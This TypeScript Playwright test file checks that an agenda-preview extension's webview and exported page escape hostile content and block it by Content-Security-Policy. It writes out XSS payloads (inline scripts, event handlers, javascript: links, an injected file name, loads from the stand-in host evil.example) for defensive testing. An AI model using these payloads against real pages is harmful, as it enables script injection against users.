import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import type { BrowserContext, Page } from 'playwright-core';
import * as core from '../../src/core';
import { previewDocument } from '../../src/extension/preview/previewDocument';
import type { ExtensionMessage, PreviewSettings } from '../../src/shared/messages';
import { launchChromium } from '../chromium';
import { PREVIEW_STRINGS as STRINGS } from './previewStrings';

const REPO = path.resolve(__dirname, '../../..');
const RESULTS = path.join(REPO, 'test-results');
const HOSTILE = path.join(REPO, 'test/fixtures/render/preview-injection.agenda.yaml');
/** The renderer's own hostile agenda (test/unit/render.test.ts), whose payloads call alert(). */
const RENDER_HOSTILE = path.join(REPO, 'test/fixtures/render/hostile.agenda.yaml');

/** The name of a hostile agenda's file, as the preview keeps it in its settings and state. */
const HOSTILE_RESOURCE = `file:///tmp/%22%3E%3Cscript%3Epwned('file name')%3C/script%3E/"><script>pwned('resource')</script>.agenda.yaml`;

/** Stands for the origin VS Code serves a webview's files from (`webview.cspSource`). */
const WEBVIEW = 'https://webview.agenda.test';
/** Where an exported programme is opened from, as a file a user double-clicks. */
const EXPORT = 'https://export.agenda.test';

/** The markup a raw injection would carry, had the renderer let it through: each piece tries to run or to load. */
const RAW_PAYLOAD = `<script>pwned('inline script')</script>
<script src="https://evil.example/remote.js"></script>
<img src="https://evil.example/pixel.png" onerror="pwned('onerror')">
<svg onload="pwned('svg onload')"></svg>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css">
<div style="background-image: url(https://evil.example/background.png)">styled</div>
<a id="js-link" href="javascript:pwned('javascript link')">click</a>
<script>alert('dialog'); document.title = 'PWNED';</script>`;

/** What a page did that a hostile agenda must never make it do. */
interface Observed {
  /** Where each payload that ran says it came from (they call `pwned`). */
  ran: string[];
  dialogs: string[];
  /** Every request the page's content asked for, including those its policy stopped before they left the page. */
  attempted: string[];
  /** The requests that left the page for the network: served if they were the page's own files, else refused. */
  sent: string[];
  refused: string[];
  /** The requests the page's Content-Security-Policy stopped (Chromium reports them as failed with `csp`). */
  stoppedByPolicy: string[];
  /** What the page's Content-Security-Policy blocked: `directive blocked-uri`. */
  violations: string[];
  /** The messages the preview's script sent to the extension. */
  posted: { type: string }[];
  title: string;
}

/** Asserts that no payload ran: none called `pwned`, opened a dialog or renamed the page from `title`. */
function assertNothingRan(seen: Observed, title: string): void {
  assert.deepStrictEqual({ ran: seen.ran, dialogs: seen.dialogs, title: seen.title }, { ran: [], dialogs: [], title });
}

/** The update the extension sends a preview for `text` (as AgendaPreview.render does), in English. */
function updateFor(text: string, resource: string): Extract<ExtensionMessage, { type: 'update' }> {
  const parsed = core.parseAgenda(text);
  const language = core.localizer(parsed.value, undefined).language;
  return {
    type: 'update',
    html: core.renderProgramme(parsed, { language }),
    stale: false,
    problems: core.checkParsed(parsed, {}).filter((d) => d.severity === 'error')
      .map((d) => ({ line: d.range.start.line, character: d.range.start.character, severity: 'error' as const, message: d.message })),
    languages: core.availableLanguages(parsed.value).map((code) => ({ code, name: core.languageName(code, 'en') })),
    language,
    view: 'programme',
    state: { resource, locked: false },
  };
}

/** The preview page the extension makes for a webview, with `programme` in it and a hostile file name in its settings. */
function previewHtml(programme: string): string {
  const settings: PreviewSettings = { strings: STRINGS, state: { resource: HOSTILE_RESOURCE, locked: false } };
  return previewDocument(core, { cspSource: WEBVIEW, media: (file) => `${WEBVIEW}/media/${file}`, language: 'en', programme, settings });
}

/** Every file a preview page loads: itself and the extension's media. */
const PREVIEW_FILES = [`${WEBVIEW}/index.html`, `${WEBVIEW}/media/preview.css`, `${WEBVIEW}/media/preview.js`];

const sorted = (list: string[]) => [...list].sort();

const MEDIA: Record<string, string> = {
  [`${WEBVIEW}/media/preview.css`]: 'text/css',
  [`${WEBVIEW}/media/preview.js`]: 'text/javascript',
};

describe('preview security in headless Chromium', function () {
  this.timeout(60_000);
  let context: BrowserContext;
  let temp: string;
  const hostileText = fs.readFileSync(HOSTILE, 'utf8');
  const hostile = core.parseAgenda(hostileText);

  before(async () => {
    temp = fs.mkdtempSync(path.join(os.tmpdir(), 'agenda-browser-'));
    context = await launchChromium(path.join(temp, 'profile'), path.join(temp, 'home'), { width: 1000, height: 800 });
    fs.mkdirSync(RESULTS, { recursive: true });
  });

  after(async () => {
    await context?.close();
    fs.rmSync(temp, { recursive: true, force: true });
  });

  /**
   * Opens `html` at `url` in a fresh page that serves only that page and the preview's media files, and records
   * everything in `Observed`. With `webview`, the page gets VS Code's `acquireVsCodeApi` as a webview does.
   */
  async function open(url: string, html: string, webview: boolean): Promise<{ page: Page; observed: () => Promise<Observed>; ranAt: (where: string) => Promise<void> }> {
    const page = await context.newPage();
    const ran: string[] = [];
    const waiting = new Map<string, () => void>();
    const dialogs: string[] = [];
    const attempted: string[] = [];
    const sent: string[] = [];
    const refused: string[] = [];
    const stoppedByPolicy: string[] = [];
    page.on('request', (request) => attempted.push(request.url()));
    page.on('requestfailed', (request) => request.failure()?.errorText === 'csp' && stoppedByPolicy.push(request.url()));
    page.on('websocket', (socket) => attempted.push(socket.url()));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.exposeFunction('pwned', (where: string) => {
      ran.push(where);
      waiting.get(where)?.();
    });
    /** Resolves once the page has run the payload marked `where` (a click's navigation runs it after the click returns). */
    const ranAt = (where: string) => (ran.includes(where) ? Promise.resolve() : new Promise<void>((resolve) => waiting.set(where, resolve)));
    await page.addInitScript((withApi: boolean) => {
      const w = window as unknown as Record<string, unknown>;
      const violations: string[] = [];
      const posted: unknown[] = [];
      w.agendaTestObserved = { violations, posted };
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      if (withApi) w.acquireVsCodeApi = () => ({ postMessage: (m: unknown) => posted.push(m), getState: () => undefined, setState: () => undefined });
    }, webview);
    await page.route('**/*', (route) => {
      const requested = route.request().url();
      sent.push(requested);
      if (requested === url) return route.fulfill({ body: html, contentType: 'text/html; charset=utf-8' });
      const media = MEDIA[requested];
      if (media && webview) return route.fulfill({ path: path.join(REPO, 'media', path.basename(new URL(requested).pathname)), contentType: media });
      refused.push(requested);
      return route.abort('blockedbyclient');
    });
    await page.goto(url, { waitUntil: 'load' });
    const observed = async (): Promise<Observed> => {
      await page.waitForLoadState('networkidle');
      const inPage = await page.evaluate(() => (window as unknown as { agendaTestObserved: { violations: string[]; posted: { type: string }[] } }).agendaTestObserved);
      return { ran, dialogs, attempted, sent, refused, stoppedByPolicy, violations: inPage.violations, posted: inPage.posted, title: await page.title() };
    };
    return { page, observed, ranAt };
  }

  /** What a programme's DOM must not hold, whatever the agenda says: the offending elements and attributes, by name. */
  async function activeContent(page: Page): Promise<string[]> {
    return page.evaluate(() => {
      const found: string[] = [];
      const programme = document.querySelector('#programme') ?? document.body;
      for (const element of Array.from(document.querySelectorAll('*'))) {
        for (const attribute of Array.from(element.attributes)) {
          if (/^on/i.test(attribute.name)) found.push(`${element.localName}[${attribute.name}]`);
          if (/^(href|src|action|formaction|data|xlink:href)$/i.test(attribute.name) && /^\s*(javascript|data|vbscript):/i.test(attribute.value)) {
            found.push(`${element.localName}[${attribute.name}=${attribute.value}]`);
          }
        }
      }
      for (const element of Array.from(programme.querySelectorAll('script, style, link, base, meta, iframe, frame, object, embed, img, svg, math, form, input, button, video, audio, source, [style]'))) {
        found.push(`${element.localName} in the programme`);
      }
      for (const anchor of Array.from(document.querySelectorAll('a[href]'))) {
        const href = anchor.getAttribute('href') ?? '';
        if (!/^(https?:|mailto:|#)/i.test(href)) found.push(`a[href=${href}]`);
      }
      return found;
    });
  }

  it('proves that it sees scripts, dialogs, requests and active links when a page has no policy and no escaping', async () => {
    const { page, observed, ranAt } = await open('https://control.agenda.test/', `<!DOCTYPE html><title>control</title><body>${RAW_PAYLOAD}</body>`, false);
    const seen = await observed();
    assert.deepStrictEqual([...seen.ran].sort(), ['inline script', 'onerror', 'svg onload']);
    assert.deepStrictEqual(seen.dialogs, ['dialog']);
    assert.strictEqual(seen.title, 'PWNED');
    for (const evil of ['https://evil.example/remote.js', 'https://evil.example/pixel.png', 'https://evil.example/frame', 'https://evil.example/style.css', 'https://evil.example/background.png']) {
      assert.ok(seen.sent.includes(evil) && seen.refused.includes(evil), `${evil} was not requested: ${seen.sent.join(', ')}`);
    }
    assert.deepStrictEqual(seen.stoppedByPolicy, []);
    assert.ok((await activeContent(page)).includes("a[href=javascript:pwned('javascript link')]"));
    await page.click('#js-link');
    await ranAt('javascript link');
    assert.ok((await observed()).ran.includes('javascript link'));
    await page.close();
  });

  it('shows the hostile agenda in the real preview page with its markup as text: nothing runs, loads or links out of bounds', async () => {
    const update = updateFor(hostileText, HOSTILE_RESOURCE);
    const { page, observed } = await open(`${WEBVIEW}/index.html`, previewHtml(update.html ?? ''), true);
    await page.waitForFunction(() => (window as unknown as { agendaTestObserved: { posted: { type: string }[] } }).agendaTestObserved.posted.some((m) => m.type === 'ready'));
    await page.evaluate((message) => window.postMessage(message, '*'), update);
    await page.waitForSelector('#banner:not([hidden]) li');

    const seen = await observed();
    assertNothingRan(seen, '');
    assert.deepStrictEqual(sorted(seen.attempted), PREVIEW_FILES);
    assert.deepStrictEqual(sorted(seen.sent), PREVIEW_FILES);
    assert.deepStrictEqual(seen.refused, []);
    assert.deepStrictEqual(seen.violations, []);
    assert.deepStrictEqual(seen.posted.map((m) => m.type), ['ready']);
    assert.deepStrictEqual(await activeContent(page), []);
    assert.deepStrictEqual(await page.$$eval('script', (scripts) => scripts.map((s) => s.getAttribute('src'))), [`${WEBVIEW}/media/preview.js`]);

    const text = (selector: string) => page.$eval(selector, (e) => e.textContent ?? '');
    assert.strictEqual(await text('.event-title'), "Hostile <script>pwned('event title')</script> agenda");
    assert.strictEqual(await text('.session-room'), 'Room <style>* { display: none !important }</style> B');
    assert.strictEqual(await text('.agenda-item-title'), "</style><script>document.title='PWNED'</script><style>");
    assert.ok((await text('.event-description')).includes('[javascript link](javascript:pwned(‘md link’))'));
    assert.deepStrictEqual(await page.$$eval('#programme a[href]', (links) => [...new Set(links.map((a) => a.getAttribute('href')))]), [
      'https://evil.example/md.png', 'https://evil.example/tracker.png', 'https://evil.example/frame', 'https://evil.example/md.css',
      'https://evil.example/', 'https://evil.example/refresh', 'https://evil.example/style.png', 'https://evil.example/text.png',
      'https://evil.example/import.css', 'https://example.org/ok', '#topic-evil-topic', 'https://evil.example/form', '#session-hostile-session',
    ]);
    assert.ok(await page.$eval('.session-room', (e) => (e as HTMLElement).offsetHeight > 0), 'the injected CSS hid nothing');
    const problems = await page.$$eval('#banner li', (items) => items.map((li) => li.textContent ?? ''));
    assert.ok(problems.some((p) => p.includes("`javascript:pwned('event url')` is not a web address")), problems.join('\n'));
    const languages = await page.$$eval('#toolbar option', (options) => options.map((o) => [(o as HTMLOptionElement).value, o.textContent]));
    assert.deepStrictEqual(languages, [['en', 'English'], [`x" onmouseover="pwned('lang')`, `x" onmouseover="pwned('lang')`]]);

    await page.screenshot({ path: path.join(RESULTS, 'preview-hostile.png'), fullPage: true });
    await page.close();
  });

  it('keeps bidi overrides and isolates inside the field that holds them', async () => {
    const { page } = await open(`${WEBVIEW}/index.html`, previewHtml(core.renderProgramme(hostile)), true);
    // Where each speaker's name begins and ends on screen: the boxes of its first and last visible characters.
    const names = await page.$$eval('.item-speakers .person-name', (elements) => elements.map((element) => {
      const text = element.firstChild as Text;
      const visible = [...text.data.matchAll(/[^\u202a-\u202e\u2066-\u2069]/gu)].map((m) => m.index ?? 0);
      const box = (at: number) => {
        const range = document.createRange();
        range.setStart(text, at);
        range.setEnd(text, at + 1);
        const { left, right, top } = range.getBoundingClientRect();
        return { left, right, top };
      };
      return { text: text.data, first: box(visible[0]), last: box(visible[visible.length - 1]) };
    }));
    assert.deepStrictEqual(names.map((n) => n.text.slice(0, 8)), ['Override', 'Isolate ', '<u style']);
    for (let i = 1; i < names.length; i++) {
      const [before, after] = [names[i - 1].last, names[i].first];
      const sameLine = Math.abs(before.top - after.top) < 1;
      assert.ok(!sameLine || after.left >= before.right, `"${names[i].text}" begins left of the end of "${names[i - 1].text}": ${JSON.stringify(names)}`);
      assert.ok(sameLine || after.top > before.top, `"${names[i].text}" begins above "${names[i - 1].text}"`);
    }
    await page.close();
  });

  it('blocks injected scripts, handlers and requests by the preview page policy alone, were the renderer ever to let markup through', async () => {
    const { page, observed } = await open(`${WEBVIEW}/index.html`, previewHtml(RAW_PAYLOAD), true);
    const seen = await observed();
    assertNothingRan(seen, '');
    assert.deepStrictEqual(sorted(seen.sent), PREVIEW_FILES);
    assert.deepStrictEqual(seen.refused, []);
    assert.deepStrictEqual(sorted(seen.stoppedByPolicy), ['https://evil.example/pixel.png', 'https://evil.example/remote.js', 'https://evil.example/style.css']);
    for (const blocked of ['script-src-elem inline', 'script-src-elem https://evil.example/remote.js', 'script-src-attr inline', 'img-src https://evil.example/pixel.png',
      'frame-src https://evil.example', 'style-src-elem https://evil.example/style.css', 'style-src-attr inline']) {
      assert.ok(seen.violations.includes(blocked), `${blocked} not among ${seen.violations.join(', ')}`);
    }
    await page.click('#js-link');
    assert.deepStrictEqual((await observed()).ran, []);
    await page.close();
  });

  it('exports the hostile agenda as a standalone page that runs nothing, loads nothing and links only to the web', async () => {
    const standalone = core.renderStandalone(hostile);
    const { page, observed } = await open(`${EXPORT}/programme.html`, standalone, false);
    const seen = await observed();
    assert.strictEqual(core.programmeTitle(hostile), "</title><script>pwned('short title')</script><title> \u2014 Programme");
    assertNothingRan(seen, core.programmeTitle(hostile));
    assert.deepStrictEqual(seen.attempted, [`${EXPORT}/programme.html`]);
    assert.deepStrictEqual(seen.violations, []);
    assert.deepStrictEqual(await activeContent(page), []);
    assert.deepStrictEqual(await page.$$eval('script', (scripts) => scripts.length), 0);
    assert.strictEqual(await page.$eval('.event-title', (e) => e.textContent), "Hostile <script>pwned('event title')</script> agenda");
    await page.screenshot({ path: path.join(RESULTS, 'export-hostile.png'), fullPage: true });
    await page.close();
  });

  it("runs nothing, loads nothing and links nowhere unsafe for the renderer's own hostile agenda, in the preview and exported", async () => {
    const parsed = core.parseAgenda(fs.readFileSync(RENDER_HOSTILE, 'utf8'));
    for (const [url, html, title] of [
      [`${WEBVIEW}/index.html`, previewHtml(core.renderProgramme(parsed)), ''],
      [`${EXPORT}/programme.html`, core.renderStandalone(parsed), core.programmeTitle(parsed)],
    ] as const) {
      const { page, observed } = await open(url, html, url.startsWith(WEBVIEW));
      const seen = await observed();
      assertNothingRan(seen, title);
      assert.deepStrictEqual(sorted(seen.attempted), url.startsWith(WEBVIEW) ? PREVIEW_FILES : [url]);
      assert.deepStrictEqual(seen.violations, []);
      assert.deepStrictEqual(await activeContent(page), [], url);
      assert.strictEqual(await page.$eval('.event-title', (e) => e.textContent), '<script>alert("title")</script>');
      await page.close();
    }
  });

  it('blocks injected scripts and requests by the standalone page policy alone', async () => {
    const standalone = core.renderStandalone(hostile).replace('<body class="standalone">', `<body class="standalone">${RAW_PAYLOAD}`);
    const { page, observed } = await open(`${EXPORT}/programme.html`, standalone, false);
    const seen = await observed();
    assertNothingRan(seen, core.programmeTitle(hostile));
    assert.deepStrictEqual(seen.sent, [`${EXPORT}/programme.html`]);
    assert.deepStrictEqual(seen.refused, []);
    assert.deepStrictEqual(sorted(seen.stoppedByPolicy), ['https://evil.example/background.png', 'https://evil.example/pixel.png', 'https://evil.example/remote.js', 'https://evil.example/style.css']);
    for (const blocked of ['script-src-elem inline', 'script-src-elem https://evil.example/remote.js', 'script-src-attr inline', 'img-src https://evil.example/pixel.png',
      'img-src https://evil.example/background.png', 'frame-src https://evil.example', 'style-src-elem https://evil.example/style.css']) {
      assert.ok(seen.violations.includes(blocked), `${blocked} not among ${seen.violations.join(', ')}`);
    }
    await page.close();
  });
});
